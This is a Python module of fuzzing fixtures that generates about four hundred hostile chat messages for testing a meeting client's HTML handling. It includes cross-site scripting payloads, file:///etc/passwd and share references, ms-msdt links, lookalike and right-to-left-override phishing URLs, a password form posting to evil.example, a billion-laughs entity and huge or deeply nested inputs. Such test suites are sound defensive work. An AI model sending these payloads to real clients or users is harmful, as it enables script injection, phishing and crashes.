"""Some four hundred pieces that somebody in the meeting could send, each by a name.

Written by hand where a piece has a history, generated where there is a family of them. HTML, unless
the name begins with ``text``.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

LONGEST = 28 * 1024
"""What the service takes; some pieces are longer, as if it took more."""

_TAGS = (
    *("table", "tr", "td", "div", "span", "p", "b", "i", "u", "s", "code", "pre", "blockquote"),
    *("ul", "ol", "li", "a", "font", "h1", "center", "form", "details", "marquee", "bdo", "ruby"),
    *("svg", "math", "script", "style", "template", "iframe", "object", "select", "codeblock"),
    *("at", "attachment", "emoji", "hr", "br", "img", "input", "video", "noscript", "plaintext"),
)
_BEGINNINGS = (
    *("<", "</", "<!", "<!--", "<?", "<a ", "<a href", "<a href=", "<a href='", '<a href="', "&"),
    *("&#", "&#x", "&#9", "&amp", "<![CDATA[", "<b", "<p a='", '<a b="c" ', "]]>", "-->", "='"),
    *("<span itemtype='x/Mention'>", "<blockquote itemtype='x/Reply'>", "<img id='1'>", "www."),
    *("https://", "https://a.example/)", "http://[", "mailto:", "<li>x", "<br>", "\t", "\n", " x"),
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=",
    "file:///etc/passwd",
    "file://server/share/x",
    "FILE:///C:/Windows/win.ini",
    r"\\server\share\x.png",
    r"\\?\C:\x",
    "//server/share/x.png",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "qrc:/icons/app.svg",
    ":/icons/app.svg",
    "smb://server/share",
    "ftp://server/x",
    "ms-settings:network",
    "ms-msdt:/id PCWDiagnostic",
    "search-ms:query=x",
    "teams:l/meetup-join",
    "blob:https://a.example/1",
    "about:blank",
    "chrome://settings",
    "view-source:https://a.example",
    "https://bank.example@evil.example/",
    "https://bank.example:x@evil.example/",
    r"https://bank.example\@evil.example/",
    "https://evil.example\\.bank.example/",
    "https://ex\u0430mple.com/",
    "https://xn--e1awd7f.example/",
    "https://bank.example\u202emoc.live/",
    "https://\u200bbank.example/",
    "https://127.0.0.1:1/x",
    "https://[::1]:1/x",
    "https://0x7f000001/",
    "https://a.example:99999/",
    "https://" + "a" * 5_000 + ".example/",
    "https://a.example/" + "b" * 5_000,
    "https://a.example/%0d%0aSet-Cookie:x",
    "http://",
    "https:///x",
    "https://[x",
    "mailto:a@b.example?attach=/etc/passwd",
    "mailto:" + "a" * 500 + "@b.example",
    "tel:+123",
    "",
)
_CHARACTERS = {
    "right to left override": "\u202e",
    "left to right embedding": "\u202a",
    "right to left isolate": "\u2067",
    "end of isolate": "\u2069",
    "arabic letter mark": "\u061c",
    "zero width space": "\u200b",
    "zero width joiner": "\u200d",
    "zero width non joiner": "\u200c",
    "word joiner": "\u2060",
    "byte order mark": "\ufeff",
    "soft hyphen": "\u00ad",
    "no break space": "\u00a0",
    "object": "\ufffc",
    "no character": "\uffff",
    "replacement": "\ufffd",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "next line": "\u0085",
    "null": "\x00",
    "bell": "\x07",
    "backspace": "\x08",
    "escape": "\x1b[31m",
    "form feed": "\x0c",
    "vertical tab": "\x0b",
    "carriage return": "\r",
    "half a pair, high": "\ud83d",
    "half a pair, low": "\ude00",
    "mark": "\u0301",
    "marks": "\u0335\u0321\u0322\u0327\u0328",
    "enclosing mark": "\u20dd",
    "variation selector": "\ufe0f",
    "tag": "\U000e0041",
    "private": "\ue000",
    "far private": "\U0010fffd",
    "family": "👩‍👩‍👧‍👦",
    "flag": "🏳️‍🌈",
    "letters of flags": "🇦",
    "skin": "👍🏿",
    "keycap": "1️⃣",
    "ideograph": "漢",
    "far ideograph": "\U00020000",
    "hangul jamo": "\u1100",
    "arabic": "م",
    "arabic ligature": "\ufdfd",
    "hebrew": "א",
    "devanagari": "क्ष",
    "thai": "ก้",
    "tibetan": "ཀྱི",
    "khmer": "ស្រី",
    "telugu that stopped telephones": "జ్ఞ‌ా",
    "cuneiform": "𒐫",
}

_BY_HAND = {
    "picture from the disk": '<img src="file:///etc/passwd">',
    "picture from a share": r'<img src="\\server\share\x.png">',
    "picture from elsewhere": '<img src="https://evil.example/x.png">',
    "picture in data": '<img src="data:image/png;base64,iVBORw0KGgo=">',
    "picture as a background": "<p style=\"background:url('file:///etc/passwd')\">x</p>",
    "old background": '<table background="file:///etc/passwd"><tr><td>x</table>',
    "picture in a source set": '<img srcset="https://evil.example/x.png 2x" alt="x">',
    "huge picture": '<img id="a" width="99999999999999999999" height="-1">',
    "style sheet": "<style>@import url(file:///etc/passwd);p{font-size:9999px}</style>x",
    "link to a style sheet": '<link rel="stylesheet" href="file:///etc/passwd">x',
    "base": '<base href="file:///">x',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">x',
    "script": "<script>alert(1)</script>x",
    "script in a script": "<scr<script>ipt>alert(1)</script>",
    "script that never ends": "<script>x",
    "handler": '<b onclick="alert(1)" onerror=alert(1)>x</b>',
    "svg": '<svg onload="alert(1)"><image href="file:///etc/passwd"/></svg>x',
    "svg in math": "<math><mtext><svg><style><img src=x onerror=alert(1)></style></svg></mtext>",
    "frame": '<iframe src="https://evil.example"></iframe>x',
    "object": '<object data="file:///etc/passwd"></object><embed src="x">x',
    "form": '<form action="https://evil.example"><input name="password"></form>x',
    "huge letters": '<font size="9999999" style="font-size:99999px">x</font>',
    "letters over others": '<div style="position:fixed;top:0;left:0;z-index:9">x</div>',
    "invisible letters": '<span style="color:#fff;font-size:0">x</span>y',
    "direction": '<bdo dir="rtl">moc.live</bdo>',
    "comment that never ends": "a<!-- b",
    "comment in a comment": "<!-- <!-- --> x -->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->x",
    "declaration": "<!DOCTYPE html [<!ENTITY a 'b'>]>&a;",
    "billion laughs": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>&b;',
    "instruction": '<?xml version="1.0"?><?php x ?>y',
    "mention within a mention": "<at><at>x</at></at>" * 200,
    "mention that never ends": "<span itemtype='x/Mention'>" + "x" * 2_000,
    "reply within a reply": "<blockquote itemtype='x/Reply'>" * 200 + "x",
    "reply that never ends": "<blockquote itemtype='x/Reply'>" + "x" * 5_000,
    "reply with everything": "<blockquote itemtype='x/Reply'><strong itemprop='mri'>" + "n" * 9_000,
    "attribute that never ends": '<a href="' + "x" * LONGEST,
    "attributes without end": "<a " + "b=c " * 7_000 + ">x</a>",
    "attribute of spaces": "<a b" + " " * LONGEST + "=c>x</a>",
    "names of attributes": "<a " + "b" * LONGEST + ">x",
    "number too large": "&#x110000;&#99999999;&#x0;&#xd800;&#" + "9" * 20_000 + ";",
    "references": "&lt;script&gt;alert(1)&lt;/script&gt;" * 300,
    "reference to a reference": "&amp;lt;b&amp;gt;" * 1_000,
    "a word of a megabyte": "w" * 1_000_000,
    "a megabyte of words": "lorem ipsum " * 83_000,
    "a megabyte of tags": "<b>" * 333_000,
    "twenty thousand spans": "<span>" * 20_000 + "x" + "</span>" * 20_000,
    "twenty nested tables": "<table><tr><td>" * 20 + "x" + "</table>" * 20,
    "two hundred nested tables": "<table><tr><td>" * 200 + "x",
    "columns without end": "<table><tr>" + "<td>x" * 5_000,
    "list within lists": "<ul><li>" * 2_000 + "x",
    "numbers without end": "<ol>" + "<li>x" * 4_000,
    "lines without end": "x<br>" * 5_000,
    "empty lines without end": "<p>&nbsp;</p>" * 2_000,
    "links without end": '<a href="https://a.example/">x</a> ' * 900,
    "written links without end": "https://a.example/b " * 1_400,
    "one written link": "https://a.example/" + "b/" * 14_000,
    "styles that change": "<b>a</b><i>b</i>" * 1_700,
    "link inside a link": '<a href="https://a.example"><a href="javascript:1">x</a>',
    "link around everything": '<a href="https://a.example"><p>x</p><img id="a"><ul><li>y',
    "link that says another": '<a href="https://evil.example">https://bank.example</a>',
    "link of marks": '<a href="https://evil.example">\u202ehttps://bank.example</a>',
    "link without words": '<a href="https://evil.example"></a>x',
    "right to left name": "\u202egnp.exe\u202c",
    "arabic and latin": "مرحبا hello بالعالم world " * 200,
    "all controls": "".join(map(chr, range(32))) + "\x7f\x80\ufffc\ufffe\ufeff",
    "all of the first plane": "".join(chr(n) for n in range(0x20, 0x10000, 9)),
    "malformed utf-8 read as latin": b"\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc".decode(
        "latin"
    ),
    "malformed utf-8 replaced": b"\xff\xfe\xc0\xaf\xed\xa0\x80".decode("utf-8", "replace"),
    "overlong": b"\xc0\xbc\xc0\xbe".decode("utf-8", "surrogateescape"),
    "format of qt": "%1 %n %s {0} %%",
    "text markup": "<b>not bold</b>",
    "text lines": "\n" * 20_000,
    "text tabs": "\t" * 20_000,
    "text word": "w" * 1_000_000,
    "text ansi": "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "nothing": "",
    "spaces": " " * 5_000,
}


def hostile_messages() -> dict[str, str]:
    """All pieces."""
    return dict(_pieces())


def _pieces() -> Iterator[tuple[str, str]]:
    yield from _BY_HAND.items()
    for tag in _TAGS:
        piece = f"<{tag}>"
        yield f"{tag} nested", (piece * LONGEST)[:LONGEST] + "x"
        yield f"{tag} mixed up", f"{piece}<b>a</{tag}>b<p>c</b></{tag}></p>" * 200
    for beginning in _BEGINNINGS:
        yield f"{beginning!r} again and again", (beginning * LONGEST)[:LONGEST]
    for address, (kind, form) in product(
        _ADDRESSES,
        {"link": '<a href="{}">x</a>', "picture": '<img src="{}" alt="x">'}.items(),
    ):
        yield f"{kind} {address[:60]!r}", form.format(address)
    for name, character in _CHARACTERS.items():
        yield f"{name} alone", character
        yield f"{name} again and again", character * (LONGEST // 3 // len(character))
        yield f"text {name} in a word", f"a{character}b" * 500
